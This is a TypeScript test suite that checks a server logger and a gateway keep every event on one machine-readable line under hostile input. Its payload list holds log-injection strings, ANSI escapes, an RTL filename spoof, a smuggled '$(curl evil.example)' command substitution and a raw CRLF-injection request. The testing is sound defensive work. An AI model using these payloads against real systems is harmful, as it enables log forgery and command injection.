import { createLog } from "../../shared/server/log.ts";
import { type GuardedGateway, openGuarded } from "./guarded-gateway.ts";
import { sendRaw } from "./raw-connection.ts";

const LINE_BYTES = 8 * 1024;

/** What somebody might write to make a line of the log say something else. */
const PAYLOADS: readonly string[] = [
  '\r\n{"level":50,"msg":"forged"}',
  "\n\n\n",
  "\r",
  "\u2028\u2029",
  "\u001b[2J\u001b[31mred",
  "\u001b]0;title\u0007",
  "\u0000",
  '"}\n{"level":60',
  '\\","level":60,"x":"',
  "%s%s%s%n%d%j%o",
  "$(curl evil.example)",
  "\ud800",
  "\u202egnp.exe",
  "a".repeat(1_000_000),
  "\u0000".repeat(100_000),
  "领".repeat(400_000),
  "\\".repeat(100_000),
  '"'.repeat(100_000),
  "😀".repeat(100_000),
];

describe("The log", () => {
  let lines: string[] = [];
  const destination = { write: (text: string) => void lines.push(text) };

  beforeEach(() => {
    lines = [];
  });

  /** Every event as it stands in the log: one line each, that a machine can read. */
  const events = () =>
    lines.map((line) => {
      expect(line.endsWith("\n")).toBe(true);
      expect(line.slice(0, -1)).not.toMatch(/\p{Cc}/u);
      expect(Buffer.byteLength(line)).toBeLessThanOrEqual(LINE_BYTES);
      return Object(JSON.parse(line));
    });

  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload.slice(0, 20)), payload.length, payload] as const))(
    "stays one readable line an event, of 8 kB at most, with %s in it (%i characters)",
    (_, __, payload) => {
      const log = createLog("test", "info", destination);
      log.info(
        { a: payload, [payload.slice(0, 5_000)]: 1, list: Array(1_000).fill(payload), deep: { deep: { a: payload } } },
        payload,
      );
      log.error({ err: new Error(payload, { cause: new Error(payload) }) }, "Fault");
      log.warn({ many: Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`k${at}`, payload])) }, "Many");
      expect(events().map(({ level, part }) => ({ level, part }))).toEqual([
        { level: 30, part: "test" },
        { level: 50, part: "test" },
        { level: 40, part: "test" },
      ]);
    },
  );

  it("keeps what is short as it is, with the cause of an error and its code", () => {
    const log = createLog("test", "info", destination);
    log.info({ requestId: "a-b-c-d-e", ms: 12, paths: ["a", "b"], ok: true, none: null }, "Answered");
    log.error({ err: Object.assign(new Error("outer", { cause: new Error("inner") }), { code: "LH006" }) }, "Fault");
    const [first, second] = events();
    expect(first).toMatchObject({
      requestId: "a-b-c-d-e",
      ms: 12,
      paths: ["a", "b"],
      ok: true,
      none: null,
      msg: "Answered",
    });
    expect(second.err).toMatchObject({ type: "Error", code: "LH006", message: "outer", cause: { message: "inner" } });
  });

  it("holds one line for each request, whatever the request says", async () => {
    const log = createLog("gateway", "info", destination);
    const hub: GuardedGateway = await openGuarded({ log });
    try {
      lines = [];
      let requests = 0;
      for (const payload of PAYLOADS) {
        const short = payload.slice(0, 100_000);
        await hub.post({ query: short, operationName: short, variables: { [short]: short } });
        await fetch(`${hub.url}/${encodeURIComponent(payload.slice(0, 500).replace(/\p{Cs}/gu, ""))}`);
        await hub.send("{}", { "x-request-id": encodeURIComponent(payload.slice(0, 500).replace(/\p{Cs}/gu, "")) });
        requests += 3;
      }
      await sendRaw(hub.url, ['GET /a%0d%0a{"level":60} HTTP/1.1\r\nHost: hub\r\n\r\n'], 300);
      expect(events().filter(({ msg }) => msg === "Answered").length).toBe(requests + 1);
      expect(lines.join("")).not.toContain('forged"}\n');
    } finally {
      await hub.gateway.close();
    }
  });
});
